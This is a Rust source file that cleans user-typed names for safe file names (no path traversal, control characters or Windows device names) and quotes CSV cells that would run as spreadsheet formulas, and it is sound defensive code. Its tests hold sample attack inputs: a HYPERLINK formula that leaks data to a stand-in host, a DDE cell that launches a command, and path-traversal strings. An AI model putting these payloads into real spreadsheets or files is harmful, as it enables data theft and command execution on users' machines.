//! Text from data that leaves the program as a file name or a spreadsheet cell.
//!
//! - File names (`<entity name><year>年度部门决算.<ext>`, a download's Content-Disposition, a
//!   region node's directory) are made from names people typed: [`file_stem`] turns any text
//!   into one harmless path component (no `/` `\`, no `..`, no control characters, no Windows
//!   reserved names, no trailing dot or space, bounded length).
//! - CSV opened in a spreadsheet runs a cell starting with `= + - @` (or tab / CR before one)
//!   as a formula (CSV / formula injection). [`csv_text`] prefixes such text with `'`, the
//!   OWASP recommendation; amounts are written as numbers and never go through it.
//!   [`formula_start`] lets the loader refuse names beginning so.

use std::borrow::Cow;

/// Longest stem [`file_stem`] returns, in bytes (UTF-8): with an extension and the parents a
/// path stays far below the 255-byte limit of a file name on common file systems.
pub const MAX_STEM_BYTES: usize = 180;

/// Windows device names: `CON.html` opens the console there, whatever the extension.
const RESERVED: [&str; 22] = [
    "CON", "PRN", "AUX", "NUL", "COM1", "COM2", "COM3", "COM4", "COM5", "COM6", "COM7", "COM8",
    "COM9", "LPT1", "LPT2", "LPT3", "LPT4", "LPT5", "LPT6", "LPT7", "LPT8", "LPT9",
];

/// `text` as one safe path component, without extension. Separators, characters Windows
/// refuses (`: * ? " < > |`) and control characters become `_`; a run of dots becomes `_`
/// (so no `..`, and no hidden file from a leading dot); leading and trailing spaces and
/// dots go; a Windows reserved name gets a leading `_`; the result is cut to
/// [`MAX_STEM_BYTES`] at a character boundary. Never empty (`决算` when nothing is left).
pub fn file_stem(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '.' {
            if chars.peek() == Some(&'.') {
                while chars.peek() == Some(&'.') {
                    chars.next();
                }
                out.push('_');
            } else {
                out.push('.');
            }
        } else if c.is_control() || "/\\:*?\"<>|".contains(c) {
            out.push('_');
        } else {
            out.push(c);
        }
    }
    let mut out = out
        .trim_matches(|c: char| c == '.' || c.is_whitespace())
        .to_string();
    if out.len() > MAX_STEM_BYTES {
        let mut end = MAX_STEM_BYTES;
        while !out.is_char_boundary(end) {
            end -= 1;
        }
        out.truncate(end);
        out = out
            .trim_end_matches(|c: char| c == '.' || c.is_whitespace())
            .to_string();
    }
    let device = out.split('.').next().unwrap_or("").trim_end();
    if RESERVED.iter().any(|r| r.eq_ignore_ascii_case(device)) {
        out.insert(0, '_');
    }
    if out.is_empty() {
        out.push_str("决算");
    }
    out
}

/// `stem.ext` with the stem made safe by [`file_stem`]; `ext` is the program's own.
pub fn file_name(stem: &str, ext: &str) -> String {
    format!("{}.{ext}", file_stem(stem))
}

/// Whether a spreadsheet would read text starting so as a formula: `= + - @`, tab or CR.
pub fn formula_start(text: &str) -> Option<char> {
    text.chars()
        .next()
        .filter(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'))
}

/// A text cell for CSV: prefixed with `'` when it starts like a formula, else unchanged.
pub fn csv_text(text: &str) -> Cow<'_, str> {
    if formula_start(text).is_some() {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A plain decimal number as juesuan writes amounts and counts: optional `-`, digits,
/// optional `.` and digits. Such a cell is a number in a spreadsheet, never a formula.
pub fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn traversal_and_absolute_names_become_one_component() {
        assert_eq!(file_stem("../../escaped-"), "____escaped-");
        assert_eq!(file_stem("/tmp/x-"), "_tmp_x-");
        assert_eq!(file_stem("a\\b"), "a_b");
        assert_eq!(file_stem(".hidden"), "hidden");
        assert_eq!(file_stem("a..b"), "a_b");
        for s in ["../../escaped-", "/tmp/x-", "..", ".", "...", "a/../../b"] {
            let stem = file_stem(s);
            assert!(!stem.contains('/') && !stem.contains('\\') && !stem.contains(".."));
            assert_ne!(stem, ".");
            assert!(!stem.is_empty());
        }
    }

    #[test]
    fn control_reserved_trailing_and_length() {
        assert_eq!(file_stem("a\nb\u{0}c\u{7f}"), "a_b_c_");
        assert_eq!(file_stem("CON"), "_CON");
        assert_eq!(file_stem("com1.tar"), "_com1.tar");
        assert_eq!(file_stem("nul "), "_nul");
        assert_eq!(file_stem("CONSOLE"), "CONSOLE");
        assert_eq!(file_stem("名称. . "), "名称");
        assert_eq!(file_stem(""), "决算");
        assert_eq!(file_stem("   "), "决算");
        let long = "赤".repeat(100);
        let s = file_stem(&long);
        assert!(s.len() <= MAX_STEM_BYTES && s.len() > MAX_STEM_BYTES - 3);
        assert!(s.chars().all(|c| c == '赤'));
        assert_eq!(
            file_name("赤峰市司法局2024年度部门决算", "html"),
            "赤峰市司法局2024年度部门决算.html"
        );
    }

    #[test]
    fn formula_cells_are_quoted_others_are_not() {
        for s in [
            "=HYPERLINK(\"http://evil.example/?leak\",\"点击查看\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(csv_text(s), format!("'{s}"));
        }
        assert_eq!(csv_text("赤峰市司法局"), "赤峰市司法局");
        assert_eq!(csv_text("a=b"), "a=b");
        assert_eq!(csv_text(""), "");
    }

    #[test]
    fn plain_numbers() {
        for s in ["-12.50", "0", "405.57", "-3", "2024"] {
            assert!(is_plain_number(s), "{s}");
        }
        for s in ["-", "", "-1+1", "1.", ".5", "=1", "1e5", "--1"] {
            assert!(!is_plain_number(s), "{s}");
        }
    }
}
